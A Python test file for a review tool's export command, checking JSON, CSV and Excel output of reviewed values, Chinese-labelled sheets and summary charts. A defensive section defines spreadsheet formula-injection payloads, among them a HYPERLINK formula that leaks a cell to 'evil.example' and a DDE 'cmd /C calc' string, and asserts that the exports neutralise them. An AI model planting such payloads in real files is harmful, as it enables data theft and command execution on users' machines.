"""`extractor export`: reviewed values with each field's review status."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from pathlib import Path

from openpyxl import load_workbook
from typer import Typer
from typer.testing import CliRunner

from extractor.review import ReviewStore
from extractor.review.cli import register
from extractor.review.export import export_csv, export_json
from extractor.review.workbook import export_xlsx
from tests.review.fixtures import DOC_ID, RATE_ACTUAL, REASON_SCORE, WRONG_SCORE, build

runner = CliRunner()


def _reviewed(store: ReviewStore) -> None:
    store.decide(
        DOC_ID, "p1", WRONG_SCORE, "modify", value="15", note="抄错", reviewer="张三", version=0
    )
    store.decide(DOC_ID, "p1", RATE_ACTUAL, "confirm", reviewer="张三", version=0)
    store.decide(
        DOC_ID, "p1", REASON_SCORE, "source_error", note="原表漏填", reviewer="李四", version=0
    )


def test_json_export(store: ReviewStore) -> None:
    _reviewed(store)
    data = json.loads(export_json([store.document_view(DOC_ID)]))
    document = data["documents"][0]
    assert document["doc_id"] == DOC_ID
    indicator = document["result"]["projects"][0]["indicators"][4]
    assert indicator["score"] == 15  # the reviewed value
    fields = {(f["project"], f["path"]): f for f in document["fields"]}
    score = fields[("p1", WRONG_SCORE)]
    assert (score["extracted"], score["value"], score["status"]) == (18, 15, "modified")
    assert (score["reviewer"], score["note"]) == ("张三", "抄错")
    assert fields[("p1", RATE_ACTUAL)]["status"] == "confirmed"
    assert fields[("p1", REASON_SCORE)]["status"] == "source_error"
    assert fields[("p1", "indicators[0].score")]["status"] == "unreviewed"
    flags = {(f["rule"], f["target"]): f for f in document["flags"]}
    assert flags[("indicator.score_above_weight", WRONG_SCORE)]["status"] == "cleared"
    assert flags[("indicator.score_above_weight", WRONG_SCORE)]["decision"]["decision"] == "modify"
    assert [r["decision"] for r in document["audit"]] == ["modify", "confirm", "source_error"]
    # The current result only carries the flags still raised.
    assert all(f["rule"] != "indicator.score_above_weight" for f in document["result"]["flags"])


def test_csv_export(store: ReviewStore) -> None:
    _reviewed(store)
    raw = export_csv([store.document_view(DOC_ID)])
    assert raw.startswith("\ufeff".encode())  # Excel reads it as UTF-8
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))
    row = next(r for r in rows if r["字段路径"] == WRONG_SCORE)
    assert (row["提取值"], row["审核值"], row["审核状态"], row["处理"]) == (
        "18",
        "15",
        "已修改",
        "修改",
    )
    assert row["审核人"] == "张三" and row["备注"] == "抄错"
    assert next(r for r in rows if r["字段路径"] == "indicators[0].score")["审核状态"] == "未审核"


def test_xlsx_export(store: ReviewStore) -> None:
    _reviewed(store)
    book = load_workbook(io.BytesIO(export_xlsx([store.document_view(DOC_ID)])))
    assert book.sheetnames == ["汇总", "项目", "资金", "指标", "问题", "字段审核", "审核记录"]
    indicators = book["指标"]
    header = [c.value for c in indicators[1]]
    assert header[:8] == [
        "文档",
        "项目编号",
        "项目名称",
        "行",
        "分组",
        "一级指标",
        "二级指标",
        "三级指标",
    ]
    row = next(
        r for r in indicators.iter_rows(min_row=2, values_only=True) if r[7] == "群众出行便利"
    )
    record = dict(zip(header, row, strict=True))
    assert record["得分"] == 15 and isinstance(record["得分"], (int, float))
    assert record["分值"] == 15 and isinstance(record["分值"], (int, float))
    assert record["审核状态"] == "得分：已修改（18→15）"
    funding = book["资金"]
    fheader = [c.value for c in funding[1]]
    total = dict(zip(fheader, next(funding.iter_rows(min_row=2, values_only=True)), strict=True))
    assert total["资金来源"] == "年度资金总额" and total["执行率(%)"] == 82.89
    assert isinstance(total["全年执行数"], float)
    flags = book["问题"]
    fl_header = [c.value for c in flags[1]]
    flag_rows = [
        dict(zip(fl_header, r, strict=True)) for r in flags.iter_rows(min_row=2, values_only=True)
    ]
    source_error = next(r for r in flag_rows if r["字段路径"] == REASON_SCORE)
    assert (source_error["状态"], source_error["处理"], source_error["备注"]) == (
        "原文错误",
        "原文错误",
        "原表漏填",
    )
    cleared = next(r for r in flag_rows if r["规则"] == "indicator.score_above_weight")
    assert cleared["状态"] == "已消除" and cleared["新值"] == 15
    projects = book["项目"]
    assert [c.value for c in projects[1]][:3] == ["文档", "项目编号", "项目名称"]
    assert book["审核记录"].max_row == 4


def test_export_command(store: ReviewStore, tmp_path: Path) -> None:
    _reviewed(store)
    db = str(store.engine.url.database)
    app = Typer()
    register(app)
    for fmt in ("json", "csv", "xlsx"):
        out = tmp_path / f"e.{fmt}"
        result = runner.invoke(app, ["export", "--db", db, "--format", fmt, "--out", str(out)])
        assert result.exit_code == 0, result.output
        assert out.stat().st_size > 0
    data = json.loads((tmp_path / "e.json").read_text(encoding="utf-8"))
    assert data["documents"][0]["result"]["projects"][0]["indicators"][4]["score"] == 15
    bad = runner.invoke(app, ["export", "--db", db, "--format", "pdf"])
    assert bad.exit_code == 2
    # --run: only the documents that run brought in.
    run = store.start_run("第二批")
    store.import_result(*build("doc_second"), run=run)
    out = tmp_path / "run.json"
    one_run = runner.invoke(
        app, ["export", "--db", db, "--format", "json", "--run", str(run), "--out", str(out)]
    )
    assert one_run.exit_code == 0, one_run.output
    documents = json.loads(out.read_text(encoding="utf-8"))["documents"]
    assert [d["doc_id"] for d in documents] == ["doc_second"]
    unknown = runner.invoke(app, ["export", "--db", db, "--run", "99", "--out", str(out)])
    assert unknown.exit_code == 2 and "没有批次 99" in unknown.output


# --- the summary sheet and text that looks like a formula -------------------------------

HOSTILE_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")'
HOSTILE_REVIEWER = "=1+1"
HOSTILE_NOTE = "@SUM(1+1)*cmd|' /C calc'!A0"


def _hostile_store(tmp_path: Path) -> ReviewStore:
    store = ReviewStore.open(tmp_path / "hostile.db")
    result, pages = build("doc_hostile", name=HOSTILE_NAME)
    store.import_result(result, pages)
    store.decide(
        "doc_hostile",
        "p1",
        WRONG_SCORE,
        "modify",
        value="15",
        note=HOSTILE_NOTE,
        reviewer=HOSTILE_REVIEWER,
        version=0,
    )
    store.decide(
        "doc_hostile",
        "p1",
        "indicators[0].name",
        "modify",
        value="-2+3",
        reviewer="张三",
        version=0,
    )
    return store


def _sheet_xml(data: bytes) -> list[str]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return [
            archive.read(name).decode("utf-8")
            for name in archive.namelist()
            if name.startswith("xl/worksheets/sheet")
        ]


def test_xlsx_writes_formula_like_text_as_text(tmp_path: Path) -> None:
    store = _hostile_store(tmp_path)
    data = export_xlsx([store.document_view("doc_hostile")])
    assert all("<f>" not in xml for xml in _sheet_xml(data))  # no live formula anywhere
    book = load_workbook(io.BytesIO(data))
    found = {}
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.value in (HOSTILE_NAME, HOSTILE_REVIEWER, HOSTILE_NOTE, "-2+3"):
                    assert cell.data_type == "s" and cell.quotePrefix, (sheet.title, cell)
                    found[cell.value] = sheet.title
    assert set(found) == {HOSTILE_NAME, HOSTILE_REVIEWER, HOSTILE_NOTE, "-2+3"}
    # Numbers stay numbers.
    scores = [r[14] for r in book["指标"].iter_rows(min_row=2, values_only=True)]
    assert 15 in scores and all(isinstance(s, (int, float)) for s in scores if s is not None)


def test_csv_writes_formula_like_text_as_text(tmp_path: Path) -> None:
    store = _hostile_store(tmp_path)
    text = export_csv([store.document_view("doc_hostile")]).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    cells = [cell for row in rows for cell in row]
    assert "'" + HOSTILE_NAME in cells and HOSTILE_NAME not in cells
    assert "'" + HOSTILE_REVIEWER in cells and "'" + HOSTILE_NOTE in cells
    assert "'-2+3" in cells
    assert not any(c.startswith(("=", "+", "@")) for c in cells)
    assert "15" in cells


def test_review_sheet_keeps_formula_like_text_as_text(tmp_path: Path) -> None:
    from extractor.review.sheet import export_sheet

    store = _hostile_store(tmp_path)
    data, _rows = export_sheet(store)
    assert all("<f>" not in xml for xml in _sheet_xml(data))
    names = [
        r[2]
        for r in load_workbook(io.BytesIO(data))["待处理"].iter_rows(min_row=2, values_only=True)
    ]
    assert HOSTILE_NAME in names


def test_xlsx_summary_sheet_has_native_charts_of_the_figures(store: ReviewStore) -> None:
    _reviewed(store)
    data = export_xlsx(store.views())
    book = load_workbook(io.BytesIO(data))
    assert book.sheetnames[0] == "汇总"
    sheet = book["汇总"]
    labels = [row[0] for row in sheet.iter_rows(values_only=True)]
    for heading in (
        "概况",
        "资金执行率分布",
        "总得分分布",
        "问题（按规则与严重度）",
        "审核进度（问题状态）",
    ):
        assert heading in labels
    rows: dict[str, tuple[object, ...]] = {}
    for row in sheet.iter_rows(values_only=True):
        if isinstance(row[0], str):
            rows.setdefault(row[0], row)  # the first table that has the label
    assert rows["文档"][1] == 2 and rows["审核记录"][1] == 3
    assert rows["80–90%"][1] == 2  # both demo forms execute 82.89%
    assert rows["95–100 优"][1] == 2  # 96.29 on both
    assert rows["已消除（修改后）"][1] == 2
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        charts = sorted(n for n in archive.namelist() if n.startswith("xl/charts/chart"))
        assert len(charts) == 5
        xml = [archive.read(n).decode("utf-8") for n in charts]
        drawing = archive.read("xl/drawings/drawing1.xml").decode("utf-8")
    assert drawing.count("<c:chart ") == 5  # five charts placed on the 汇总 sheet
    assert all("'汇总'!$B$" in chart for chart in xml)
    assert sum("<c:barChart>" in c or "<barChart>" in c for c in xml) == 4
    assert sum("<c:pieChart>" in c or "<pieChart>" in c for c in xml) == 1
